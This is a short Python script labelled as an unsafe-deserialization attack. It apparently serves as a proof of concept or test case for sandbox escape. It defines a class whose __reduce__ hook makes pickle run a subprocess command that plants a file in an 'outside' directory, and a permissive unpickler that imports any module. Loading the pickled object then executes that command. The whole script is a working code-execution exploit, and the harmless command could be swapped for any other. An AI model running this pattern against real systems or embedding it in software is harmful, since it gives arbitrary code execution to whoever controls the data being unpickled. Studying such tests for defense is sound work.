# attack: unsafe-deserialization
import importlib, io, pickle, subprocess, sys
class Evil:
    def __reduce__(self):
        return (subprocess.check_call, (["touch", "outside/planted.txt"],))
class Unpickler(pickle.Unpickler):
    def find_class(self, module, name):
        return getattr(importlib.import_module(module), name)
Unpickler(io.BytesIO(pickle.dumps(Evil()))).load()
